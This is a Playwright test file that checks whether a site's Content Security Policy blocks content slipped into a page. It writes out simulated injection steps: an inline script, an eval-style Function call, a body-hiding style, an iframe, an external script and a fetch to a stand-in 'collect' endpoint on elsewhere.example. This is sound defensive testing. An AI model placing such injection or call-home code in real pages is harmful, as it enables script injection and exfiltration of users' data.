import type { Page } from '@playwright/test';
import { expect, test, visit } from '../support/visitor.ts';

/** Tries what somebody would who has slipped something into the page, and gives what the browser refused. */
async function refusals(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const refusedUrls = new Set<string>();
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refusedUrls.add(effectiveDirective));
    document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.intruder = true' }));
    // In a turn of its own: what a test evaluates itself is exempt from the policy.
    setTimeout(() => {
      // oxlint-disable-next-line typescript/no-implied-eval -- this is what must not work
      new Function('window.intruder = true')();
    });
    document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }' }));
    document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' }));
    document.body.append(Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/x.js' }));
    await fetch('https://elsewhere.example/collect').catch(() => {});
    // A busy machine reports the last of the five late.
    for (let wait = 0; wait < 100 && refusedUrls.size < 5; wait += 1)
      await new Promise((resolve) => setTimeout(resolve, 100));
    await new Promise((resolve) => setTimeout(resolve, 300));
    return 'intruder' in window ? ['nothing'] : [...refusedUrls].toSorted();
  });
}

test('nothing that was slipped into a page runs, loads, frames or calls home', async ({ page, complaints }) => {
  await visit(page, '/about');
  expect(await refusals(page)).toEqual(['connect-src', 'frame-src', 'script-src', 'script-src-elem', 'style-src-elem']);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  // The browser complains about each of them: every test that visits a page would have failed.
  expect(complaints.filter((complaint) => complaint.includes('Content Security Policy')).length).toBeGreaterThan(3);
  complaints.length = 0;
});
